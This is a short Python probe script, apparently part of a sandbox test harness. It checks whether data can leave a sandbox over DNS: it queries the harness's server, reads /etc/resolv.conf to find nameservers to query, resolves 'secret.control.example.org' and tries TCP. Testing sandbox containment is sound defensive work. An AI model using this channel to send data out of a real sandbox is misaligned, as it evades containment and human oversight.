"""Secrets leave a sandbox by DNS: ask the harness's server, those of resolv.conf, and the C library."""

import re
import socket

from probe import attempt, brief

QUERY = bytes.fromhex("1234010000010000000000000673656372657407636f6e74726f6c0000010001")


def run(meta, raw):
    host, port = brief(raw)["udp"][0]
    yield attempt("own-server", lambda: ask(host, port))
    yield attempt("resolv-conf", ask_configured)
    yield attempt("getaddrinfo", lambda: socket.getaddrinfo("secret.control.example.org", 80))
    yield attempt("over-tcp", lambda: socket.create_connection(tuple(brief(raw)["tcp"][0]), timeout=1))


def ask(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.settimeout(0.3)
        resolver.sendto(QUERY, (host, port))
        return resolver.recv(512)


def ask_configured():
    with open("/etc/resolv.conf") as file:
        for server in re.findall(r"^nameserver\s+([0-9.]+)", file.read(), re.M):
            if ask(server, 53):
                return server
